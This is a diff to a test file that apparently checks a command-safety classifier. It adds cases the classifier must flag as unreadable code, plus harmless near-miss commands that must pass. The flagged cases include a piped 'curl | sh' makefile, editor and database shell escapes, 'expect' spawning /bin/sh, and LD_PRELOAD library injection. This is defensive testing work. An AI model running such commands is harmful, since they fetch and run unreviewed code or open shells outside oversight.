@@ -48,6 +48,20 @@ const GIVE_UPS: Case[] = [
   { command: 'rm -rf ~/"$X"', reason: 'unresolvable-path', names: /known only at run time/ },
   { command: 'echo "unterminated', reason: 'parse-error', names: /parser could not read/ },
   { command: 'if then fi ((', reason: 'parse-error', names: /parser/ },
+  {
+    command: "printf 'all:\\n\\tcurl -s x | sh\\n' | make -f -",
+    reason: 'unread-code',
+    names: /makefile from standard input/,
+  },
+  { command: "make --eval='$(shell id)' -n", reason: 'unread-code', names: /--eval/ },
+  { command: "vi -es -c ':py3 import os' -c ':q!'", reason: 'unread-code', names: /another language/ },
+  { command: "expect -c 'spawn /bin/sh; interact'", reason: 'unread-code', names: /Tcl/ },
+  { command: 'emacs --batch --eval \'(shell-command "id")\'', reason: 'unread-code', names: /Emacs Lisp/ },
+  { command: "mysql -e '\\! sh'", reason: 'unread-code', names: /shell escape/ },
+  { command: 'run-parts --regex . /tmp/.dl/', reason: 'unread-code', names: /every file of a folder/ },
+  { command: 'ssh -F /tmp/cfg h', reason: 'unread-code', names: /ProxyCommand/ },
+  { command: 'ssh-keygen -D ./build/libpkcs11.so', reason: 'unread-code', names: /shared library/ },
+  { command: "cmake -E env LD_PRELOAD=/tmp/.x.so sh -c 'id'", reason: 'unread-code', names: /loads a library/ },
 ];
 
 test('each give-up reason leads to ask from unread-call, naming what could not be read', async () => {
@@ -125,6 +139,11 @@ const READABLE: string[] = [
   'bash scripts/setup.sh',
   'python3 -m pytest -q',
   'cat <<EOF > notes.txt\nhello $USER\nEOF',
+  'make -f build/Makefile test',
+  'vim -es -c "%s/a/b/g" -c wq notes.md',
+  'run-parts --test /etc/cron.daily',
+  'ssh -F /dev/null -o BatchMode=yes build-host true',
+  'mysql -e "select 1"',
 ];
 
 test('near misses stay readable: no unread-call ask', async () => {
